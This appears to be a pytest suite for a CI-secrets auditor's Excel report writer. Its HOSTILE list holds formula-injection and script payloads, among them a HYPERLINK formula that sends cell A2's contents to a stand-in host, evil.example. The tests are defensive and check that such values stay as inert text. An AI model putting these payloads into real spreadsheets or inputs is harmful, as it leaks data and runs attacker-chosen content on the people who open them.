from __future__ import annotations

import io
import math
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import UTC, date, datetime, time, timedelta, timezone
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet._writer import ALL_TEMP_FILES

from auditor.models import Results, Severity
from auditor.report import cells, rows, streaming, workbook
from auditor.report.rows import Options, Report
from auditor.report.rows.secrets import COLUMNS
from auditor.report.sheets import grid
from auditor.report.styles import PLAIN, Styles
from auditor.report.tables import Column, Formula, Kind, Owner, Row, Table, Value


def written(results: Results, now: datetime, hosts: frozenset[str] = frozenset()) -> Workbook:
    file = io.BytesIO()
    workbook.write(rows.report(results, Options(now=now)), file, hosts=hosts)
    return load_workbook(file)


@pytest.fixture
def book(results: Results, now: datetime) -> Workbook:
    return written(results, now)


def texts(book: Workbook, sheet: str, header: str) -> list[Any]:
    column = next(cell.column_letter for cell in book[sheet][1] if cell.value == header)
    return list(book[sheet][column][1:])


def test_the_sheets(book: Workbook) -> None:
    assert {sheet.title: sheet.sheet_state for sheet in book.worksheets} == {
        "Summary": "visible",
        "Secrets": "visible",
        "Identities": "visible",
        "Permissions": "visible",
        "Hunts": "visible",
        "Log coverage": "visible",
        "Changes": "visible",
        "Gaps": "visible",
        "Closed": "visible",
        "Read me": "visible",
        "Lists": "hidden",
        "_meta": "veryHidden",
    }


def test_a_sheet_shows_its_table(book: Workbook, results: Results, now: datetime) -> None:
    report = rows.report(results, Options(now=now))
    for table in report.tables:
        headers, *found = book[table.name].iter_rows(values_only=True)
        assert list(headers) == [column.header for column in table.columns]
        expected = [[_read_back(value) for value in row] for row in table.rows()]
        assert [list(row) for row in found] == expected


def _read_back(value: Value) -> Any:
    if isinstance(value, date) and not isinstance(value, datetime):
        return naive(value.year, value.month, value.day)
    return None if value == "" else value


HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A2,"click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",  # noqa: RUF001 (that is the point)
    "#N/A",
    "#REF!",
    "TRUE",
    "0123",
    "1e5",
    "2023-01-05",
    "'quoted",
    "a\x07\x00b",
    "\ud800",
    "\ufffe",
    "[bold]markup[/bold]",
    "<script>alert(1)</script>&amp;",
    "x_x0041_y",
    "مرحبا 你好 🔑",
    "line\nbreak",
    "  padded  ",
)


def test_hostile_names_are_text(with_names: Callable[..., Results], now: datetime) -> None:
    found = texts(written(with_names(*HOSTILE), now), "Secrets", "Secret name")
    assert all(cell.data_type == "s" for cell in found)
    assert {cell.value for cell in found} == {
        *(name for name in HOSTILE if name.isprintable() and "_x0041_" not in name),
        "\t=1+1",
        "\r=1+1",
        "line\nbreak",
        "a\\x07\\x00b",
        "\\ud800",
        "\\ufffe",
        "x_x005F_x0041_y",  # how a workbook stores it; applications show what it was
    }


@pytest.mark.parametrize("name", HOSTILE[:11])
def test_what_looks_like_a_formula_never_becomes_one(
    name: str, with_names: Callable[..., Results], now: datetime
) -> None:
    (cell,) = texts(written(with_names(name), now), "Secrets", "Secret name")
    assert cell.quotePrefix


def test_a_name_of_ten_thousand_characters(
    with_names: Callable[..., Results], now: datetime
) -> None:
    (cell,) = texts(written(with_names("x" * 10_000), now), "Secrets", "Secret name")
    assert cell.value == "x" * 10_000


def test_people_can_filter_scroll_and_print(book: Workbook) -> None:
    sheet = book["Secrets"]
    assert sheet.freeze_panes == "B2"
    assert sheet.tables["tblSecrets"].ref == sheet.dimensions
    assert sheet.tables["tblSecrets"].autoFilter.ref == sheet.dimensions
    assert sheet.auto_filter.ref is None  # beside a table's own it makes Excel repair the file
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 8)
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.print_area == "'Secrets'!$A$1:$N$61"


def test_every_region_names_its_columns_as_the_cells_do(book: Workbook) -> None:
    regions = [(s, region) for s in book.worksheets for region in s.tables.values()]
    assert {s.title for s, _ in regions} == {
        "Secrets",
        "Identities",
        "Permissions",
        "Hunts",
        "Log coverage",
        "Changes",
        "Gaps",
        "Closed",
    }
    for sheet, region in regions:
        assert region.column_names == [cell.value for cell in sheet[1]]


def test_headers_show_whose_a_column_is(book: Workbook) -> None:
    fills = {cell.value: cell.fill.start_color.rgb for cell in book["Secrets"][1]}
    human = {header for header, fill in fills.items() if fill == "006B4423"}
    assert human == {"Status", "Owner", "Due date", "Ticket", "Notes", "Exception until"}
    assert {fill for header, fill in fills.items() if header not in human} == {"001F3864"}


def test_lists_and_dates_are_checked(book: Workbook) -> None:
    rules = book["Secrets"].data_validations.dataValidation
    assert [(str(rule.sqref), rule.type, rule.formula1) for rule in rules] == [
        ("I2:I1061", "list", "StatusList"),
        ("K2:K1061", "date", "36526"),
        ("O2:O1061", "date", "36526"),
    ]
    assert all(rule.errorStyle == "warning" for rule in rules)
    assert book.defined_names["StatusList"].attr_text == "'Lists'!$A$2:$A$6"
    assert [cell.value for cell in book["Lists"]["A"][1:]] == [
        "Open",
        "In progress",
        "Rotated",
        "Accepted risk",
        "Not applicable",
    ]


def test_colours_follow_severity_and_status(book: Workbook) -> None:
    formats = {str(f.sqref): f.rules for f in book["Secrets"].conditional_formatting}
    severities = formats["B2:B61"]
    assert [rule.formula for rule in severities[1:]] == [
        [f'$B2="{severity.value}"'] for severity in Severity
    ]
    assert severities[1].dxf.fill.bgColor.rgb == "007B1E3A"
    assert all(rules[0].dxf.font.i and rules[0].stopIfTrue for rules in formats.values())
    ranks = [rule.priority for rules in formats.values() for rule in rules]
    assert len(set(ranks)) == len(ranks)
    areas = " ".join(formats).split()
    assert len(set(areas)) == len(areas)


def test_summary_holds_numbers_and_no_formula(book: Workbook) -> None:
    values = [cell for row in book["Summary"].iter_rows() for cell in row]
    assert not [cell for cell in values if cell.data_type == "f"]
    shown = [cell.value for cell in values if cell.value is not None]
    for expected in (
        "CI secrets: rotation tracker",
        "acme",
        "As of the run of 2023-01-20 09:30 UTC · run f3a91c · auditor 0.1.0",
        "circleci: 31 of 34 contexts read (3 refused)",
        "Could not see 2 things: see sheet Gaps.",
        60,
        *(severity.value for severity in Severity),
    ):
        assert expected in shown


def test_known_consoles_are_links_and_others_text(results: Results, now: datetime) -> None:
    changed = replace(
        results,
        secrets=(
            replace(results.secrets[0], url="https://circleci.corp.example/x"),
            replace(results.secrets[1], url="https://evil.example/"),
            *results.secrets[2:],
        ),
    )
    book = written(changed, now, frozenset({"circleci.corp.example"}))
    found = {cell.value: cell.hyperlink for cell in texts(book, "Secrets", "Open in CI")}
    assert found["https://circleci.corp.example/x"].target == "https://circleci.corp.example/x"
    assert found["https://evil.example/"] is None


def test_links_are_capped(results: Results, now: datetime) -> None:
    book = streaming.new_book(Font())
    sheet = streaming.add_sheet(book, "Secrets", 0)
    table = rows.report(results, Options(now=now)).table("Secrets")
    grid.draw(sheet, table, Styles(book), grid.Grid("tblSecrets", links=7))
    file = io.BytesIO()
    streaming.save(book, file)
    read = load_workbook(file)["Secrets"]
    assert sum(cell.hyperlink is not None for row in read.iter_rows() for cell in row) == 7
    column = [cell.value for cell in read[1]].index("Open in CI")
    assert str(read[61][column].value).startswith("https://app.circleci.com/")


def test_no_secret_at_all_is_a_sound_workbook(results: Results, now: datetime) -> None:
    book = written(replace(results, secrets=(), assessments=()), now)
    last = get_column_letter(len(COLUMNS))
    assert book["Secrets"].tables["tblSecrets"].ref == f"A1:{last}2"


def test_what_a_table_leaves_out_is_said_below_it(results: Results, now: datetime) -> None:
    report = rows.report(results, Options(now=now))
    tables = tuple(
        replace(t, note="The worst 5 of 6") if t.name == "Permissions" else t for t in report.tables
    )
    file = io.BytesIO()
    workbook.write(replace(report, tables=tables), file)
    sheet = load_workbook(file)["Permissions"]
    assert sheet["A8"].value == "The worst 5 of 6"
    assert sheet.tables["tblPermissions"].ref == "A1:H6"


EAST = timezone(timedelta(hours=9))


def naive(*parts: int) -> datetime:
    """Return a time as a cell holds it, without a zone."""
    return datetime(*parts)  # type: ignore[arg-type]  # noqa: DTZ001


@pytest.mark.parametrize(
    ("value", "held", "kind"),
    [
        (datetime(2023, 1, 5, 3, 0, tzinfo=EAST), naive(2023, 1, 4, 18, 0), "d"),
        (datetime(2023, 1, 5, 3, 0, tzinfo=UTC), naive(2023, 1, 5, 3, 0), "d"),
        (date(2023, 1, 5), date(2023, 1, 5), "d"),
        (date(1899, 1, 5), "1899-01-05", "s"),
        (time(9, 30), time(9, 30), "d"),
        (timedelta(hours=30), timedelta(hours=30), "d"),
        (True, True, "b"),
        (7, 7, "n"),
        (1.5, 1.5, "n"),
        (math.inf, "inf", "s"),
        (12345678901234567890, "12345678901234567890", "s"),
    ],
)
def test_values_keep_their_kind(value: Value, held: object, kind: str) -> None:
    book = Workbook()
    cell = cells.make(book.worksheets[0], value, Styles(book).family(PLAIN))
    assert cell is not None
    assert (cell.value, cell.data_type) == (held, kind)


def test_shared_styles_are_not_changed_by_a_value() -> None:
    book = Workbook()
    family = Styles(book).family(PLAIN)
    before = list(family.text), list(family.date)
    for value in (date(2023, 1, 5), naive(2023, 1, 5, 1), time(1), timedelta(1), "=x", 1):
        cells.make(book.worksheets[0], value, family)
    assert (list(family.text), list(family.date)) == before


def test_a_formula_moves_with_its_row() -> None:
    book = Workbook()
    formula = Formula('=IF($H2="Open",C2*2,$A$1)', "D2")
    cell = cells.make(book.worksheets[0], formula, Styles(book).family(PLAIN), 7, 4)
    assert cell is not None
    assert cell.value == '=IF($H7="Open",C7*2,$A$1)'


class FullDisk(io.BytesIO):
    def write(self, data: Any) -> int:
        if self.tell() > 3_000:
            raise OSError(28, "No space left on device")
        return super().write(data)


def test_a_full_disk_leaves_no_file_behind(results: Results, now: datetime) -> None:
    with pytest.raises(OSError, match="No space left"):
        workbook.write(rows.report(results, Options(now=now)), FullDisk())
    assert ALL_TEMP_FILES == []


def broken(report: Report) -> Report:
    def rows_() -> Iterator[Row]:
        yield from []
        raise OSError("gone")

    return replace(report, tables=(replace(report.tables[0], rows=rows_), *report.tables[1:]))


def test_a_failure_half_way_leaves_no_file_behind(results: Results, now: datetime) -> None:
    with pytest.raises(OSError, match="gone"):
        workbook.write(broken(rows.report(results, Options(now=now))), io.BytesIO())
    assert ALL_TEMP_FILES == []


def test_streamed_and_ordinary_sheets_live_in_one_workbook() -> None:
    book = Workbook()
    book.worksheets[0]["A1"] = "ordinary"
    sheet = streaming.add_sheet(book, "Streamed", 0)
    style = Styles(book).family(PLAIN)
    sheet.append([None, cells.make(sheet, "streamed", style)])
    file = io.BytesIO()
    streaming.save(book, file)
    read = load_workbook(file)
    assert read.sheetnames == ["Streamed", "Sheet"]
    assert (read["Streamed"]["B1"].value, read["Sheet"]["A1"].value) == ("streamed", "ordinary")


def test_every_sheet_tells_its_size(results: Results, now: datetime) -> None:
    """Without it, a reader that only asks for it goes through all rows: openpyxl, and our check."""
    file = io.BytesIO()
    workbook.write(rows.report(results, Options(now=now)), file)
    told, whole = load_workbook(file, read_only=True), load_workbook(file)
    for sheet in whole.worksheets:
        size = told[sheet.title].calculate_dimension()
        assert size == sheet.calculate_dimension(), sheet.title


@pytest.mark.parametrize("most", [4, 9])
def test_a_row_is_as_high_as_its_text_up_to_the_lines_of_its_table(most: int) -> None:
    columns = (Column("Signals", Owner.TOOL, 20, Kind.TEXT, "", wrap=True),)
    texts = ("one", "\n".join("ab"), "\n".join("abcdefghijkl"))
    book = streaming.new_book(Font())
    sheet = streaming.add_sheet(book, "T", 0)
    told = Table("T", columns, lambda: iter([(text,) for text in texts]), lines=most)
    grid.draw(sheet, told, Styles(book), grid.Grid("tblT"))
    file = io.BytesIO()
    streaming.save(book, file)
    shown = load_workbook(file)["T"]
    heights = [shown.row_dimensions[row].height for row in (2, 3, 4)]
    assert heights == [2.25 + grid.LINE_HEIGHT * lines for lines in (1, 2, most)]
